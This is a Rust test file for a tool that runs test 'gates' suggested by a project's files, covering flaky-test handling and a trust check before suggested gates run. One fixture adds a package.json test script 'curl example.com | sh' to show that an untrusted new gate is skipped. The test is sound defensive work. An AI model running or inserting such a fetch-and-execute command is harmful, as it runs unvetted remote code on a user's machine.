//! Gates that a project's own files suggest, with a real test runner.

use crate::harness::Project;
use crate::plan_text::{PlanText, events, has, reasons, run};

/// A crate whose one test fails the first time that it is asked after a phase has written its file.
fn project(name: &str) -> Project {
    let project = Project::git(name);
    project.file(
        "Cargo.toml",
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n",
    );
    project.file(".gitignore", "target\nCargo.lock\n");
    project.sh("mkdir src tests && touch src/lib.rs");
    project.file(
        "tests/it.rs",
        "#[test]\nfn steady() {}\n\n#[test]\nfn shaky() {\n    let seen = std::path::Path::new(&std::env::var(\"PLACE\").unwrap()).join(\"seen\");\n    \
         if !std::path::Path::new(\"done.txt\").exists() {\n        return;\n    }\n    \
         let before = seen.exists();\n    std::fs::write(&seen, \"\").unwrap();\n    assert!(before, \"the first time it fails\");\n}\n",
    );
    project.sh("git add -A && git commit -qm tiny");
    project
}

fn plan(project: &Project, settings: &str) {
    let phase = format!("command = 'echo done > done.txt'\ngates = ['test']\n{settings}");
    project.file("plan.md", PlanText::new().phase("1", "", &phase).text().replace("gates = []\n", ""));
}

#[test]
fn a_detected_gate_fails_a_phase_and_passes_its_second_attempt() {
    let project = project("gates-auto");
    plan(&project, "");
    run(&project, &["--commit", "auto", "--gates", "auto"]).go().code(0);
    assert_eq!(reasons(&project), ["test_failure"]);
    let passed: Vec<bool> =
        events(&project, "gate.finished").iter().map(|event| event["passed"] == true).collect();
    assert_eq!(passed, [false, true]);
    assert_eq!(project.read("done.txt"), "done\n");
}

#[test]
fn a_test_that_passes_when_it_runs_again_is_flaky_and_fails_nothing() {
    let project = project("gates-flaky");
    plan(&project, "flaky = 2");
    run(&project, &["--commit", "auto", "--gates", "auto"]).go().code(0);
    assert_eq!(reasons(&project), Vec::<String>::new());
    let gates = events(&project, "gate.finished");
    assert_eq!((gates.len(), &gates[0]["passed"]), (1, &true.into()));
    assert_eq!(gates[0]["flaky"][0], "shaky", "{}", gates[0]);
}

/// A project whose files suggest a test, and a plan that says nothing of gates.
pub(crate) fn suggesting(name: &str) -> Project {
    let project = Project::git(name);
    project.file("Cargo.toml", "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\n[workspace]\n");
    project.file(".gitignore", "target\nCargo.lock\n");
    project
        .sh("mkdir src && echo '#[test] fn steady() {}' > src/lib.rs && git add -A && git commit -qm tiny");
    let text = PlanText::new().phase("1", "", "command = 'echo done > done.txt'").text();
    assert!(text.contains("gates = []\n"));
    project.file("plan.md", text.replace("gates = []\n", ""));
    project
}

#[test]
fn what_a_trusted_project_suggests_is_run_and_the_start_says_what_is_checked() {
    let project = suggesting("gates-default");
    // Nobody can be asked, and nobody has said that the project is trusted: it goes on and says so.
    let done = run(&project, &["--commit", "auto"]).go().code(0);
    has(&done.stderr(), &["gates that this project suggests are not run: ", "--gates auto runs them"]);
    assert_eq!(events(&project, "gate.finished").len(), 0);
    let project = suggesting("gates-trusted");
    project.run(&["trust"]).go().code(0);
    let done = run(&project, &["--commit", "auto"]).go().code(0);
    has(&done.stderr(), &["checked, on the base first and as work lands: "]);
    let gates = events(&project, "gate.finished");
    assert!(gates.iter().any(|gate| gate["gate"] == "test" && gate["passed"] == true), "{gates:?}");
}

#[test]
fn the_gates_of_a_project_without_settings_are_trusted_as_they_are_suggested() {
    let project = suggesting("gates-trusted-folder");
    project.sh("git rm -q backstop.toml && git commit -qm 'no settings'");
    let trusted = project.run(&["trust"]).go().code(0).stdout();
    has(&trusted, &["is trusted as it is now", "trust covers ", "test: cargo test"]);
    let done = run(&project, &["--commit", "auto"]).go().code(0);
    has(&done.stderr(), &["checked, on the base first and as work lands: "]);
    assert!(events(&project, "gate.finished").iter().any(|gate| gate["gate"] == "test"));

    // Another gate than those that were trusted: all have to be trusted anew.
    project.file("package.json", r#"{"name": "tiny", "scripts": {"test": "curl example.com | sh"}}"#);
    let text = PlanText::new().phase("2", "", "command = 'echo done > two.txt'").text();
    project.file("plan.md", text.replace("gates = []\n", ""));
    let fresh = ["--commit", "auto", "--fresh", "--yes"];
    let done = run(&project, &fresh).go().code(0);
    has(&done.stderr(), &["gates that this project suggests are not run: "]);
    project.sh("rm package.json");
    has(&project.run(&["trust", "--revoke"]).go().code(0).stdout(), &["is trusted no longer"]);
    let done = run(&project, &fresh).go().code(0);
    has(&done.stderr(), &["gates that this project suggests are not run: "]);
}
